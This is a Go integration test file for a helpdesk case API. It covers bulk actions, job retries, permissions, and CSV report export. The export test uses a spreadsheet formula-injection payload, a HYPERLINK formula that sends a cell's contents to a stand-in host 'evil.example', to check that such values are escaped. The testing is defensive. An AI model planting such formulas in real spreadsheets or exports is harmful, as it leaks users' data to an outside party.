package outside

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
)

// begun starts a bulk action, and waits for its end.
func (w *world) begun(c *client, scope string, request object) object {
	w.t.Helper()
	return w.ended(c, scope+"/jobs/"+text(c.post(scope+"/cases/bulk", request).object(w.t), "id"))
}

// ended waits for the end of a job.
func (w *world) ended(c *client, path string) object {
	w.t.Helper()
	var now object
	eventually(w.t, "the job has ended: "+path, func() bool {
		now = c.get(path).object(w.t)
		return text(now, "state") == "done" || text(now, "state") == "failed"
	})
	return now
}

// targets names cases as a bulk action expects them.
func targets(ids ...string) []object {
	cases := make([]object, len(ids))
	for i, id := range ids {
		cases[i] = object{"id": id}
	}
	return cases
}

// outcomes returns the outcome for each of a job's cases.
func outcomes(done object) string {
	var all []string
	results, _ := done["results"].([]any)
	for _, one := range results {
		all = append(all, text(one.(object), "outcome"))
	}
	return strings.Join(all, " ")
}

func TestALongActionDoesWhatItCanAndSaysWhatBecameOfEachCase(t *testing.T) {
	w := newWorld(t)
	org, msp := "/orgs/"+w.orgID, "/msps/"+w.mspID
	cases := org + "/cases"
	admin := w.invited("/orgs/"+w.orgID, "anna@rialto.example.com", "admin", "Anna", "Amato")
	var ids []string
	for n := range 4 {
		ids = append(
			ids,
			text(w.customer.post(cases, object{"subject": fmt.Sprintf("Case %d", n), "description": "x"}).object(t),
				"id"),
		)
	}
	const unknown = "99999999-9999-4999-8999-999999999999"

	// Open cases cannot be archived: each reports that. A request that is sent twice takes effect
	// once.
	tagging := object{
		"action":     "tag",
		"value":      "winter",
		"cases":      targets(append(ids, unknown)...),
		"request_id": "tag-1",
	}
	first, second := w.customer.post(cases+"/bulk", tagging).
		object(t),
		w.customer.post(cases+"/bulk", tagging).
			object(t)
	if text(first, "id") != text(second, "id") {
		t.Errorf("a repeated request created two jobs: %v and %v", first, second)
	}
	done := w.ended(w.customer, org+"/jobs/"+text(first, "id"))
	if text(done, "state") != "failed" || outcomes(done) != "done done done done failed" || done["done"] != 4.0 ||
		done["failed"] != 1.0 ||
		done["total"] != 5.0 {
		t.Errorf("tagged: %v", done)
	}
	for _, id := range ids {
		if got := w.customer.get(cases + "/" + id).object(t); text(got, "custom_tag") != "winter" {
			t.Errorf("the case is not tagged: %v", got)
		}
	}
	done = w.begun(w.customer, org, object{"action": "archive", "cases": targets(ids...)})
	if outcomes(done) != "failed failed failed failed" {
		t.Errorf("open cases were archived: %v", done)
	}
	done = w.begun(w.customer, org, object{"action": "close", "cases": targets(ids[:3]...)})
	if outcomes(done) != "done done done" {
		t.Errorf("closed: %v", done)
	}

	// The failed targets are retried when they can succeed.
	done = w.begun(w.customer, org, object{"action": "archive", "cases": targets(ids...)})
	if outcomes(done) != "done done done failed" {
		t.Fatalf("archived: %v", done)
	}
	w.customer.put(cases+"/"+ids[3], object{"status": "closed"})
	w.customer.post(org+"/jobs/"+text(done, "id")+"/retry", nil)
	if done = w.ended(w.customer, org+"/jobs/"+text(done, "id")); outcomes(done) != "done done done done" ||
		text(done, "state") != "done" {
		t.Errorf("the second time: %v", done)
	}
	if got := w.customer.get(cases + "?list=archived").results(t); len(got) != 4 {
		t.Errorf("archived: %v", subjectsOf(got))
	}
	done = w.begun(w.customer, org, object{"action": "unarchive", "cases": targets(ids...)})
	if outcomes(done) != "done done done done" {
		t.Errorf("removed from the archive: %v", done)
	}

	// Deletion is for administrators, who type a confirmation; and it can be undone.
	deleting := object{"action": "delete", "cases": targets(ids[0], ids[1]), "confirmation": "DELETE"}
	w.customer.call(403, "POST", cases+"/bulk", deleting)
	for _, word := range []string{"", "delete", "DELETE "} {
		admin.call(400, "POST", cases+"/bulk",
			object{"action": "delete", "cases": targets(ids[0], ids[1]), "confirmation": word})
	}
	if done := w.begun(admin, org, deleting); outcomes(done) != "done done" {
		t.Errorf("deleted: %v", done)
	}
	w.customer.call(404, "GET", cases+"/"+ids[0], nil)
	if got := admin.get(cases + "?list=deleted").results(t); len(got) != 2 {
		t.Errorf("deleted: %v", subjectsOf(got))
	}
	done = w.begun(admin, org, object{"action": "restore", "cases": targets(ids[0], ids[1])})
	if outcomes(done) != "done done" {
		t.Errorf("restored: %v", done)
	}
	w.customer.get(cases + "/" + ids[0])

	// Assignment is for agents; over an MSP, each case is named with its organization.
	agent := text(w.helpdesk.get("/self").object(t), "admin_id")
	w.customer.call(403, "POST", cases+"/bulk", object{"action": "assign", "value": agent, "cases": targets(ids...)})
	w.helpdesk.call(400, "POST", msp+"/cases/bulk",
		object{"action": "assign", "value": agent, "cases": targets(ids...)})
	done = w.begun(
		w.helpdesk,
		msp,
		object{
			"action": "assign",
			"value":  agent,
			"cases":  []object{{"id": ids[0], "org_id": w.orgID}, {"id": ids[1], "org_id": w.orgID}},
		},
	)
	if outcomes(done) != "done done" {
		t.Errorf("assigned: %v", done)
	}
	if got := w.helpdesk.get(cases + "/" + ids[0]).object(t); text(got["assignee"].(object), "id") != agent {
		t.Errorf("the case is assigned to %v", got["assignee"])
	}
	if got := w.helpdesk.get(msp + "/jobs").results(t); len(got) != 1 {
		t.Errorf("the MSP has %d jobs", len(got))
	}

	for what, wrong := range map[string]object{
		"no cases":               {"action": "close", "cases": []object{}},
		"an unknown action":      {"action": "dance", "cases": targets(ids...)},
		"no id":                  {"action": "close", "cases": targets("x")},
		"a foreign organization": {"action": "close", "cases": []object{{"id": ids[0], "org_id": unknown}}},
		"too many":               {"action": "close", "cases": targets(make([]string, 1001)...)},
	} {
		if got := w.customer.call(400, "POST", cases+"/bulk", wrong).object(t); text(got, "detail") == "" {
			t.Errorf("%s: %v", what, got)
		}
	}
	foreign, job := w.foreigner(), text(done, "id")
	for _, path := range []string{org + "/jobs", org + "/jobs/" + text(first, "id"), msp + "/jobs",
		msp + "/jobs/" + job} {
		foreign.call(404, "GET", path, nil)
	}
	for _, path := range []string{cases + "/bulk", msp + "/cases/bulk"} {
		foreign.call(404, "POST", path, object{"action": "close", "cases": targets(ids...)})
	}
	foreign.call(404, "POST", org+"/jobs/"+text(first, "id")+"/retry", nil)
	w.customer.call(404, "GET", msp+"/jobs/"+job, nil)
	w.customer.call(404, "GET", org+"/jobs/"+job, nil) // it was requested over the MSP
}

func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
	w := newWorld(t)
	org := "/orgs/" + w.orgID
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	for _, one := range []object{
		{"subject": formula, "description": "x", "custom_tag": "@SUM(1+1)"},
		{"subject": "Café, \"quoted\" 東京", "description": "x", "severity": 1},
		{"subject": "+1 555 0100", "description": "x"},
		{"subject": "\u2060=1+1", "description": "x"},
	} {
		w.customer.post(org+"/cases", one)
	}
	w.caughtUp(w.customer, org+"/cases")
	w.caughtUp(w.helpdesk, "/msps/"+w.mspID+"/cases")
	rows := func(c *client, scope, query string, comma rune) [][]string {
		t.Helper()
		asked := text(c.post(scope+"/reports?"+query, nil).object(t), "id")
		link := text(w.ended(c, scope+"/reports/"+asked), "content_url")
		got := newClient(t, w.installation).send("GET", link, "", nil)
		if got.status != 200 || got.header.Get("Content-Type") != "text/csv; charset=utf-8" ||
			!strings.Contains(got.header.Get("Content-Disposition"), "cases.csv") {
			t.Fatalf("the report: %d %v", got.status, got.header)
		}
		content, marked := strings.CutPrefix(string(got.body), "\ufeff")
		if marked == strings.Contains(query, "format=plain") {
			t.Errorf("the report %q begins with a byte order mark: %t", query, marked)
		}
		reader := csv.NewReader(strings.NewReader(content))
		reader.Comma = comma
		read, err := reader.ReadAll()
		if err != nil {
			t.Fatalf("%v in %s", err, got.body)
		}
		return read
	}
	all := rows(w.customer, org, "", ',')
	if len(all) != 5 || all[0][0] != "number" || all[0][1] != "subject" {
		t.Fatalf("the report is %q", all)
	}
	for _, want := range [][2]string{{"'" + formula, "'@SUM(1+1)"}, {"Café, \"quoted\" 東京", ""}, {"'+1 555 0100", ""},
		{"'\u2060=1+1", ""}} {
		found := false
		for _, row := range all[1:] {
			found = found || row[1] == want[0] && row[9] == want[1]
		}
		if !found {
			t.Errorf("no row has %q in %q", want, all)
		}
	}
	if got := rows(w.customer, org, "severity=1&separator=%3B&format=plain", ';'); len(got) != 2 || got[1][3] != "1" {
		t.Errorf("the filtered report is %q", got)
	}
	if got := rows(w.helpdesk, "/msps/"+w.mspID, "search=caf%C3%A9&org_id="+w.orgID, ','); len(got) != 2 ||
		got[1][13] != "Rialto Hotels" {
		t.Errorf("the agents' report is %q", got)
	}
	w.customer.call(400, "POST", org+"/reports?separator=ab", nil)
	w.customer.call(400, "POST", org+"/reports?sort=colour", nil)
	asked := text(w.customer.post(org+"/reports", nil).object(t), "id")
	foreign := w.foreigner()
	foreign.call(404, "POST", org+"/reports", nil)
	foreign.call(404, "GET", org+"/reports/"+asked, nil)
	foreign.call(404, "POST", "/msps/"+w.mspID+"/reports", nil)
}
